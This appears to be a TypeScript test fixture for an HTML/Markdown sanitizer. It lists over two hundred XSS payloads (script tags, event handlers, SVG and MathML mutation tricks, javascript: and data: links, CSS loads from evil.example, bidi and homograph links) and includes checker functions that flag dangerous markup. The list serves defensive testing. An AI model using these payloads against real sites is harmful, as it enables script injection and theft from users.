// Over 300 lines in spirit, one list in form: what people have used against sites that show what others wrote.
import { Parser } from 'htmlparser2';

export type HostileInput = { name: string; text: string };

/** What happens in a script when one gets through: also a word that must never stand where it would run. */
const act = 'alert(1)';

const scripts = [
  `<script>${act}</script>`,
  `<ScRiPt>${act}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `<script\n>${act}</script\n>`,
  `<script/x>${act}</script>`,
  `<<script>${act}//<</script>`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `<script>${act}`,
  `</script><script>${act}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<template><script>${act}</script></template>`,
  `<textarea><script>${act}</script></textarea>`,
  `<title></title><script>${act}</script>`,
  `<xmp><script>${act}</script></xmp>`,
  `<plaintext><script>${act}</script>`,
  `<!--><script>${act}</script>-->`,
  `<!--[if gte IE 4]><script>${act}</script><![endif]-->`,
  `<![CDATA[<script>${act}</script>]]>`,
  `<?xml version="1.0"?><script>${act}</script>`,
  `<!DOCTYPE html><script>${act}</script>`,
  `<script type="module">${act}</script>`,
  `<script type="text/javascript" defer>${act}</script>`,
  `<iframe srcdoc="<script>${act}</script>"></iframe>`,
  `<iframe src="javascript:${act}"></iframe>`,
  `<object data="data:text/html,<script>${act}</script>"></object>`,
  `<embed src="data:text/html,<script>${act}</script>">`,
  `<applet code="x"></applet>`,
  `<frameset><frame src="javascript:${act}"></frameset>`,
  `<base href="javascript:${act}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${act}">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<link rel=import href=//evil.example/x.html>`,
  `<portal src=//evil.example></portal>`,
  `<elepherd-editor words='{"toolbar":"x"}'><textarea></textarea></elepherd-editor>`,
];

const handlers = [
  `<img src=x onerror=${act}>`,
  `<img src=x onerror="${act}"`,
  `<img/src=x/onerror=${act}>`,
  `<img src=x onerror\n=\n${act}>`,
  `<img src=x ONERROR=${act}>`,
  `<img src="x\`<img src=x onerror=${act}>\`">`,
  `<img src=x:x onerror=&#97;lert(1)>`,
  `<body onload=${act}>`,
  `<p onclick=${act}>x</p>`,
  `<a onmouseover=${act}>x</a>`,
  `<details open ontoggle=${act}>x</details>`,
  `<video><source onerror=${act}></video>`,
  `<audio src onerror=${act}></audio>`,
  `<input autofocus onfocus=${act}>`,
  `<input type=image src=x onerror=${act}>`,
  `<select autofocus onfocus=${act}></select>`,
  `<textarea autofocus onfocus=${act}></textarea>`,
  `<button onclick=${act}>x</button>`,
  `<form onsubmit=${act}><button>x</button></form>`,
  `<marquee onstart=${act}>x</marquee>`,
  `<div onpointerenter=${act} style="position:fixed;inset:0">x</div>`,
  `<p/onclick=${act}>x`,
  `<p x="" onclick=${act}>x</p>`,
  `<p title="a" "onclick=${act}">x</p>`,
  `<img src=x onerror=${act}//`,
  `<table background=javascript:${act}><td background=javascript:${act}>x</table>`,
  `<code class="language-x" onclick=${act}>x</code>`,
  `<span class="hljs-x" onclick=${act}>x</span>`,
  `<ol start="1" onclick=${act}><li>x</ol>`,
  `<math onclick=${act}><mi>x</mi></math>`,
];

const drawings = [
  `<svg onload=${act}>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><script href="data:,${act}"/></svg>`,
  `<svg><a xlink:href="javascript:${act}"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=${act}>`,
  `<svg><foreignObject><iframe src="javascript:${act}"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x><script>${act}</script></svg>#x"/></svg>`,
  `<svg><style><img src=x onerror=${act}></style></svg>`,
  `<svg><title><img src=x onerror=${act}></title></svg>`,
  `<svg><desc><![CDATA[</desc><script>${act}</script>]]></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${act}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
  `<math><annotation-xml encoding="text/html"><script>${act}</script></annotation-xml></math>`,
  `<math href="javascript:${act}">x</math>`,
  `<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:${act}">x</maction></math>`,
  `<math><mi//xlink:href="data:x,<script>${act}</script>">`,
  `$\\href{javascript:${act}}{x}$`,
  `$\\htmlData{onclick=${act}}{x}$`,
  `$\\includegraphics{https://evil.example/x.png}$`,
  `$$\\text{</math><script>${act}</script>}$$`,
  `$\\def\\x{\\x\\x}\\x$`,
  '```mermaid\ngraph TD\n A[<img src=x onerror=alert(1)>]-->B\n click A "javascript:alert(1)"\n```',
  '```mermaid\ngraph TD\n A-->B\n style A fill:url(https://evil.example/x.svg)\n```',
  '```mermaid\n%%{init: {"securityLevel":"loose","themeCSS":"@import url(//evil.example)"}}%%\ngraph TD\n A-->B\n```',
  '```mermaid\nsequenceDiagram\n A->>B: </text></svg><script>alert(1)</script>\n```',
  '```mermaid\ngraph TD\n A["`</svg><img src=x onerror=alert(1)>`"]\n```',
  "```explain\nSeq Scan on <script>alert(1)</script>  (cost=0.00..1.00 rows=1 width=1)\n  Filter: (x = '<img src=x onerror=alert(1)>')\n```",
  '```explain\n[{"Plan":{"Node Type":"<svg onload=alert(1)>","Total Cost":1,"Startup Cost":0,"Plan Rows":1}}]\n```',
];

const styles = [
  `<style>body{display:none}</style>`,
  `<style>@import url(//evil.example/x.css);</style>`,
  `<p style="position:fixed;inset:0;background:red">x</p>`,
  `<p style="background:url(//evil.example/x)">x</p>`,
  `<p style="width:expression(${act})">x</p>`,
  `<p style="-moz-binding:url(//evil.example/x.xml#a)">x</p>`,
  `<p style="behavior:url(x.htc)">x</p>`,
  `<p class="com-bar">x</p>`,
  `<div class="com-menu" id="main">x</div>`,
  `<h2 id="main">x</h2>`,
  `<img src=x style="content:url(//evil.example/x)">`,
  `<table style="position:absolute"><tr><td>x</table>`,
  `<style>a[href^=x]{background:url(//evil.example/?x)}</style><a href=x>x</a>`,
  `<font color=red size=99>x</font>`,
  `<p align="center" width="99999">x</p>`,
  `<img name="cookie"><img id="cookie">`,
  `<form id="attributes"><input name="x"></form>`,
  `<a id="location" name="location" href="https://evil.example">x</a>`,
];

const schemes = [
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  `java\tscript:${act}`,
  `java\nscript:${act}`,
  `&#106;avascript:${act}`,
  `&#x6A;&#x61;vascript:${act}`,
  `javascript&colon;${act}`,
  `javascript&#58;${act}`,
  `\u0001javascript:${act}`,
  ` javascript:${act}`,
  `javascript://x%0a${act}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${act}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${act}>`,
  `file:///etc/passwd`,
  `blob:https://evil.example/x`,
  `about:blank`,
  `view-source:https://evil.example`,
  `feed:javascript:${act}`,
  `//evil.example/x`,
  `/\\evil.example/x`,
];
/** Each address as a link, a picture, a bare address, a reference, and in HTML. */
const addresses = schemes.flatMap((address, at) => {
  const forms = [
    `[x](${address})`,
    `[x](<${address}>)`,
    `![x](${address})`,
    `<${address}>`,
    `[x]\n\n[x]: ${address}`,
    `<a href="${address}">x</a>`,
    `<img src="${address}">`,
  ];
  // Three of the forms for each, others for the next: all meet all kinds.
  return [0, 2, 5].map((step) => forms[(at + step) % forms.length] ?? '');
});

const turned = [
  'user\u202etxt.exe',
  '`if (admin\u202e \u2066// check\u2069 \u2066) {`',
  '```sql\nselect 1; \u202e--\n```',
  '[x\u202e](https://evil.example/\u202egpj.png)',
  '&#x202e;turned&#x2066;',
  '<p title="\u202ex">x</p>',
  '\u200fright to left mark',
  '# \u202eHeading',
  '| \u202ea |\n| --- |\n| \u2067b |',
  '```explain\nSeq Scan on t\u202e  (cost=0.00..1.00 rows=1 width=1)\n```',
  '\u0000null\u0008backspace\u001b[31m',
  '\ufffe\uffff',
  'half \ud800 sign',
];

const misleading = [
  '[https://www.postgresql.org](https://evil.example/)',
  '[postgresql.org](https://evil.example/)',
  '<a href="https://evil.example/">https://www.postgresql.org/docs</a>',
  '<a href="https://evil.example/"><b>www.postgresql.org</b></a>',
  'https://www.p\u043estgresql.org/',
  '[PostgreSQL](https://www.p\u043estgresql.org/)',
  '[x](https://www.postgresql.org@evil.example/)',
  '[https://postgresql.org](https://www.postgresql.org.evil.example/)',
  '<https://xn--pstgresql-dcl.org>',
  '[www．postgresql．org](https://evil.example/)',
];

const shapes = [
  '<p>'.repeat(2000),
  '> '.repeat(2000) + 'x',
  '['.repeat(5000),
  '![x]('.repeat(2000),
  '*a_'.repeat(3000),
  '`'.repeat(5000),
  `| ${'a | '.repeat(500)}\n|${' --- |'.repeat(500)}`,
  '<div>'.repeat(500) + act + '</div>'.repeat(500),
  `[x]: ${'('.repeat(2000)}`,
  '$'.repeat(3000),
  '[^1]\n\n[^1]: [^1]',
  '- '.repeat(1000) + 'x',
];

const groups = { scripts, handlers, drawings, styles, addresses, turned, misleading, shapes };

/** More than two hundred texts that harm where they are shown as they are. Import them wherever a text of a member comes out. */
export const hostileInputs: HostileInput[] = Object.entries(groups).flatMap(([group, texts]) =>
  texts.map((text, at) => ({ name: `${group} ${at + 1}: ${text.slice(0, 60).replace(/\s/g, ' ')}`, text })),
);

const elements = new Set(
  (
    'a abbr b blockquote br caption cite code dd del details div dl dt em figcaption figure h2 h3 h4 h5 h6 hr i img ' +
    'input ins kbd li mark ol p pre q rp rt ruby s samp section small span strong sub summary sup table tbody td tfoot ' +
    'th thead tr u ul var math semantics mrow mi mn mo ms mtext mspace msup msub msubsup mfrac msqrt mroot mover munder ' +
    'munderover mtable mtr mtd mstyle mpadded mphantom ' +
    'svg defs marker g rect line polyline polygon path circle ellipse text tspan'
  ).split(' '),
);
const ownClasses =
  /^(?:language-[\w+#.-]*|hljs-[\w-]+|footnotes|footnote-ref|footnote-backref|com-(?:plan|plan-foot|plan-notes|node|share|diagram))$/;

/** Whether a browser that follows this goes to a page or a mail, and to another site only where the address names one. */
function isSafe(address: string): boolean {
  const url = URL.parse(address, 'https://here.example/articles/1');
  if (url === null) return true;
  if (url.protocol === 'mailto:') return true;
  if (!['http:', 'https:'].includes(url.protocol)) return false;
  return url.host === 'here.example' || /^https?:\/\//i.test(address);
}

/** What in a piece of HTML could do something to a reader; nothing when it is harmless. */
export function harmIn(html: string): string[] {
  const harm: string[] = [];
  if (/[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/.test(html)) harm.push('turns the direction');
  // oxlint-disable-next-line no-control-regex -- these may not stand in XML, so no feed could carry them
  if (/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/.test(html) || !html.isWellFormed())
    harm.push('a character that XML does not allow');
  let inDrawing = false;
  const parser = new Parser(
    {
      onopentag(name, attributes) {
        if (name === 'svg') inDrawing = true;
        if (!elements.has(name)) harm.push(`<${name}>`);
        for (const [key, value] of Object.entries(attributes)) {
          if (/^(?:on|style$|srcdoc|formaction|action|xlink|srcset|background|name$)/i.test(key))
            harm.push(`${name} ${key}`);
          if (key === 'href' || key === 'src') {
            if (!isSafe(value)) harm.push(`${name} ${key}=${value.slice(0, 40)}`);
            if (key === 'src' && !value.startsWith('/api/platform/files/'))
              harm.push(`fetches ${value.slice(0, 40)}`);
          }
          if (key === 'class' && !value.split(' ').every((one) => ownClasses.test(one)))
            harm.push(`class ${value}`);
          if (key === 'id' && !inDrawing && !/^(?:h-|fn|fnref)/.test(value)) harm.push(`id ${value}`);
          if (/url\((?!#[\w-]+\))|expression\(|@import/i.test(value))
            harm.push(`${key}=${value.slice(0, 40)}`);
        }
        if (name === 'input' && attributes['type'] !== 'checkbox') harm.push(`input ${attributes['type']}`);
      },
      onclosetag(name) {
        if (name === 'svg') inDrawing = false;
      },
      oncomment: () => harm.push('a comment'),
      onprocessinginstruction: (name) => harm.push(`<${name}>`),
    },
    { lowerCaseAttributeNames: false },
  );
  parser.end(html);
  return harm;
}

/**
 * What a whole page can do, a line each: elements, the attributes they have, how many scripts it brings, where addresses lead that are
 * no page. A page that says the same with hostile words has the same lines as with plain ones.
 */
export function doingsOf(page: string): Set<string> {
  const doings = new Set<string>();
  let scripts = 0;
  let within = '';
  const parser = new Parser({
    onopentag(name, attributes) {
      within = name;
      if (name === 'script') scripts += 1;
      doings.add(`<${name}>`);
      for (const [key, value] of Object.entries(attributes)) {
        doings.add(`<${name} ${key}>`);
        const isAddress = /^(?:href|src|action|formaction|poster|data|srcset|xlink:href|content)$/.test(key);
        // A browser does not see these either.
        const scheme = /^([a-z][\w+.-]*):/i.exec(value.replace(/[\0-\x20]/g, ''))?.[1]?.toLowerCase();
        if (isAddress && scheme !== undefined && /script|data|blob|file/.test(scheme))
          doings.add(`<${name} ${key}=${scheme}:>`);
        if (/^(?:src|srcset|poster|data)$/.test(key) && /^(?:\w+:)?\/\//.test(value))
          doings.add(`<${name} ${key}> from ${URL.parse(value, 'https://here.example')?.host ?? value}`);
        if (key === 'style' && /url\(|expression\(|@import|position/i.test(value))
          doings.add(`style ${value.slice(0, 60)}`);
      }
    },
    ontext(text) {
      // A browser leaves a script at the first of these, whatever the script means by it.
      if (within === 'script' && /<(?:!--|\/?script)/i.test(text)) doings.add('a script that may end early');
    },
    onclosetag() {
      within = '';
    },
    oncomment: (text) => void doings.add(`<!--${text.slice(0, 40)}-->`),
    onprocessinginstruction: (name) => void doings.add(`<${name}>`),
  });
  parser.end(page);
  doings.add(`${scripts} scripts`);
  return doings;
}
